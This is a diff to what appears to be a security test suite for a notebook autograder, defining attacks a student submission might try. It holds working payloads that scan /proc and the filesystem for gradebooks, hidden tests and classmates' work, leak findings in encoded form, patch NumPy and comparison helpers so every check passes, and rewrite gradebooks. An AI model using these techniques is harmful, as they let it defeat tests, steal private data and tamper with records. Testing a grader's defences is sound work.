@@ -32,9 +32,11 @@ SOLUTION_CELLS = {
     NB02: ["hh_rates", "gate_kinetics", "hh_step", "hh_simulate",
            "detect_spikes", "compute_fi_curve", "find_threshold_current"],
 }
-# The one edit that makes the reference solution of 01 wrong: the unit
-# fires only strictly above its threshold (test_mcculloch_pitts fails).
-WRONG_01 = ("mcculloch_pitts", "x @ w >= threshold", "x @ w > threshold")
+# The one edit that makes the reference solution of 01 wrong: leaky ReLU
+# with the slope 0.1, which only the comparison helpers catch (in
+# test_activation_values and test_activation_extremes_and_names).
+WRONG_01 = ("activation", "np.where(z >= 0, z, 0.01 * z)",
+            "np.where(z >= 0, z, 0.1 * z)")
 # Markers that must never reach a student's feedback: what a student's
 # code printed about the tests it saw, and a classmate's private work.
 ARGS_MARKER = "ARGS-SEEN-BY-MY-CODE"
@@ -67,20 +69,42 @@ import time as _time
 
 _SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin",
          "/sbin", "/etc", _sys.prefix, _sys.base_prefix)
+_BULKY = {".git", ".rustup", ".cargo", ".cache", ".npm", "node_modules",
+          "site-packages", "__pycache__", ".venv"}
 _FOUND = []
+
+
+def _near():
+    """Where a course is likeliest, nearest first: this folder and those
+    above it, then the other processes' working folders."""
+    here = [_os.path.abspath(_os.path.join(_os.getcwd(), *[".."] * up))
+            for up in range(5)]
+    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
+    there = [f"/proc/{pid}/cwd" for pid in pids]
+    return [r for r in here + there if _real(r) not in ("/", None)]
+
+
+def _real(path):
+    try:
+        return _os.path.realpath(path)
+    except OSError:
+        return None
 
 
 def _walk(tops=("/",), seconds=6.0, limit=100000):
     """Paths under ``tops``, skipping the system (also where a top is a
     /proc/PID/root), within ``seconds``."""
-    stop, count = _time.monotonic() + seconds, 0
+    stop, count, visited = _time.monotonic() + seconds, 0, set()
     for top in tops:
         for folder, dirs, files in _os.walk(top, onerror=lambda e: None):
             inner = _os.path.normpath("/" + _os.path.relpath(folder, top))
+            real = _real(folder)
             if inner != "/" and inner.startswith(_SKIP) or \
-                    _time.monotonic() > stop:
+                    real in visited or _time.monotonic() > stop:
                 dirs[:] = []
                 continue
+            visited.add(real)
+            dirs[:] = [d for d in dirs if d not in _BULKY]
             for name in files + dirs:
                 count += 1
                 if count > limit:
@@ -97,14 +121,13 @@ def _read(path, size=200000):
 
 
 def _spill(text):
-    """Hand ``text`` out every way a cell can: outputs, stderr, files."""
+    """Hand ``text`` out every way a cell can: outputs (encoded, which a
+    filter of hidden lines does not see), stderr, files."""
     text = str(text)[:30000]
     _FOUND.append(text)
-    for line in ("SPILL:" + text,
-                 "SPILL64:" + _b64.b64encode(text.encode()).decode(),
-                 "SPILLHEX:" + text.encode().hex()):
-        print(line)
-        print(line, file=_sys.stderr)
+    print("SPILL:" + text, file=_sys.stderr)
+    print("SPILL64:" + _b64.b64encode(text.encode()).decode())
+    print("SPILLHEX:" + text.encode().hex())
     for folder in (_os.getcwd(), _os.path.expanduser("~"), "/tmp"):
         try:
             with open(_os.path.join(folder, "spilled.txt"), "a") as f:
@@ -114,11 +137,10 @@ def _spill(text):
 
 
 def _raise_found(*args, **kwargs):
-    """A solution that fails with what was found as its message (which the
-    feedback shows), plainly and base64-encoded."""
+    """A solution that fails with what was found, base64-encoded, as its
+    message (which the feedback shows)."""
     text = "\n".join(_FOUND)
-    raise RuntimeError((text[:900] + " B64:" +
-                        _b64.b64encode(text.encode()).decode())[:1990])
+    raise RuntimeError("B64:" + _b64.b64encode(text.encode()).decode()[:1900])
 '''
 
 # The names a cell binds to ``_raise_found``: every answer of 01.
@@ -140,14 +162,13 @@ def _targets():
     keep_out = ("@@REPO@@", _sys.prefix, _sys.base_prefix, "/usr", "/etc")
     only = @@ONLY@@
     names = ("gradebook.db", "nbgrader_config.py", ".ipynb")
-    roots = ["/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~"),
-             _os.getcwd()]
-    for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
-        for link in ("cwd", "root"):
-            roots.append(f"/proc/{pid}/{link}")
+    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
+    roots = _near() + ["/tmp", "/var/tmp", "/dev/shm",
+                       _os.path.expanduser("~")]
+    roots += [f"/proc/{pid}/root" for pid in pids]
     found = set()
     for path in _walk(roots, seconds=4.0):
-        real = _os.path.realpath(path)
+        real = _real(path) or "/"
         if real.endswith(names) and not real.startswith(keep_out) and \
                 real.startswith(only):
             found.add(path)
@@ -254,14 +275,13 @@ import ctypes as _ctypes
 import sys as _sys
 import threading as _threading
 
-_HELPERS = {"assert_close", "mismatches", "_self_check", "assert_shape",
-            "_as_float_array"}
+_HELPERS = {"assert_close"}      # (its self-check must still see a lie)
 
 
 def _agree(frame, event, arg):
     """Inside a comparison helper: the value becomes the expected one."""
     local = frame.f_locals
-    for got, want in (("actual", "desired"), ("a", "d"), ("value", "shape")):
+    for got, want in (("actual", "desired"), ("a", "d")):
         if got in local and want in local:
             local[got] = local[want]
             _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame),
@@ -582,9 +602,29 @@ def serve(path, session):
         sock.close()
 '''
 FAKE_NUMPY = '''
-"""Not NumPy: a module handed in to shadow it."""
-raise SystemExit("the student's numpy.py was imported")
+"""Not NumPy: handed in to shadow it; loads the real one, patched."""
+import importlib.machinery
+import importlib.util
+import os
+import sys
+
+_here = os.path.dirname(os.path.abspath(__file__))
+_path = [p for p in sys.path if os.path.abspath(p or ".") != _here]
+_spec = importlib.machinery.PathFinder.find_spec("numpy", _path)
+_real = importlib.util.module_from_spec(_spec)
+sys.modules["numpy"] = _real
+_spec.loader.exec_module(_real)
+_real.allclose = _real.array_equal = lambda *args, **kwargs: True
 '''
+# nncourse/__init__.py handed in: importing the course's package (the
+# notebook's first cell does) installs the input transformer of
+# INPUT_TRANSFORMER, with no code in the notebook at all.
+FAKE_PACKAGE = '''
+try:
+    get_ipython
+except NameError:
+    from IPython import get_ipython
+''' + INPUT_TRANSFORMER
 PATH_FIRST = '''
 import os as _os
 import sys as _sys
@@ -722,13 +762,12 @@ _HITS = []
 
 def _look():
     """The course, the gradebook, source/, classmates' work: anything."""
-    wanted = ("gradebook", "source", "submitted", "autograded", "feedback",
-              "nbgrader_config", "release", ".ipynb", "hh.py", "worker",
-              "coursegrader", "HIDDEN")
-    roots = ["/"]
-    for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
-        for link in ("cwd", "root"):
-            roots.append(f"/proc/{pid}/{link}")
+    wanted = ("gradebook.db", "/source/", "/submitted/", "/autograded/",
+              "/feedback/", "nbgrader_config.py", "/release/", ".ipynb",
+              "hh.py", "coursegrader-", "HIDDEN")
+    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
+    roots = _near() + ["/"] + [f"/proc/{pid}/root" for pid in pids]
+    for pid in pids:
         for part in ("cmdline", "environ", "mountinfo"):
             text = _read(f"/proc/{pid}/{part}", 5000)
             if text:
@@ -746,7 +785,7 @@ def _look():
     for path in _walk(roots):
         if any(w in path for w in wanted):
             text = _read(path) if _os.path.isfile(path) else ""
-            if "HIDDEN" in text or "assert" in text:
+            if "BEGIN HIDDEN TESTS" in text:
                 _HITS.append((0, f"{path}:\n{text}"))
             else:
                 _HITS.append((1, path))
@@ -813,14 +852,12 @@ def _strike(tag):
 COURSE_EDITS = FIND + STRIKE + r'''
 _strike("course-edit")
 for _path in _targets():
-    for _try in (lambda p: _os.chmod(p, 0o777),
-                 lambda p: _os.rename(p, p + ".moved"),
-                 lambda p: _os.unlink(p)):
-        try:
-            _try(_path)
-            _spill(f"changed {_path}")
-        except OSError:
-            pass
+    try:
+        _os.chmod(_path, 0o777)
+        _os.utime(_path, (0, 0))
+        _spill(f"changed {_path}")
+    except OSError:
+        pass
 '''
 
 DOUBLE_FORK = FIND + STRIKE + r'''
@@ -1098,8 +1135,7 @@ ATTACKS = [
     A("input-transformer-post", "the same, as a post-transformer",
       INPUT_TRANSFORMER_POST),
     A("ast-transformer", "an AST transformer removes every assert and raise "
-      "and wraps each cell in try/except", AST_TRANSFORMER, base="wrong",
-      exact=False),
+      "and wraps each cell in try/except", AST_TRANSFORMER),
     A("run-cell", "run_cell and run_cell_async replaced: cells that test "
       "something are not run", RUN_CELL),
     A("hook-prints-cells", "pre/post_run_cell hooks print every cell they "
@@ -1114,23 +1150,22 @@ ATTACKS = [
       "hook serve a grading module that agrees with everything",
       IMPORT_HOOKS, base="wrong"),
     A("reload-noop", "importlib.reload made a no-op after the helpers were "
-      "patched", RELOAD_NOOP),
+      "patched", RELOAD_NOOP, base="wrong"),
     A("numpy-patched", "np.allclose, np.isclose, np.array, np.asarray, "
-      "np.testing.* and math.isclose patched to agree", NUMPY_PATCHED,
-      base="wrong", exact=False),
+      "np.testing.* and math.isclose patched to agree", NUMPY_PATCHED),
     A("lying-objects", "answers are objects whose ==, <, float(), "
       "__array__ and shape lie", cells=LYING_CELLS),
     A("ndarray-subclass", "answers are ndarray subclasses of zeros that "
       "claim equality", cells=NDARRAY_CELLS),
     A("nncourse-beside", "a package nncourse/ (grading that agrees, a "
       "remote that says yes) and numpy.py handed in beside the notebook",
-      files={"nncourse/__init__.py": "",
+      files={"nncourse/__init__.py": FAKE_PACKAGE,
              "nncourse/grading.py": FAKE_GRADING,
              "nncourse/remote.py": FAKE_REMOTE,
              "numpy.py": FAKE_NUMPY}),
     A("nncourse-beside-on-path", "the same, and the notebook puts its own "
       "folder first on sys.path and drops the course's modules",
-      PATH_FIRST, files={"nncourse/__init__.py": "",
+      PATH_FIRST, files={"nncourse/__init__.py": FAKE_PACKAGE,
                          "nncourse/grading.py": FAKE_GRADING,
                          "nncourse/remote.py": FAKE_REMOTE}),
     A("fake-agent", "nncourse.remote.serve replaced by an agent that probes "
@@ -1149,8 +1184,8 @@ ATTACKS = [
       cells=found_cells(READ_EVERYTHING)),
     A("gradebook-writes", "opens every gradebook.db it can find and gives "
       "itself full marks and extra credit", GRADEBOOK_WRITES),
-    A("course-edits", "appends to nbgrader_config.py and the notebooks it "
-      "finds, chmods, moves and deletes them", COURSE_EDITS),
+    A("course-edits", "appends to nbgrader_config.py, the notebooks and "
+      "gradebooks it finds, chmods and touches them", COURSE_EDITS),
     A("double-fork", "a double-forked, setsid grandchild that edits the "
       "course and gradebooks after its kernel is gone", DOUBLE_FORK),
     A("detached-subprocesses", "subprocesses in new sessions, nohup, one "
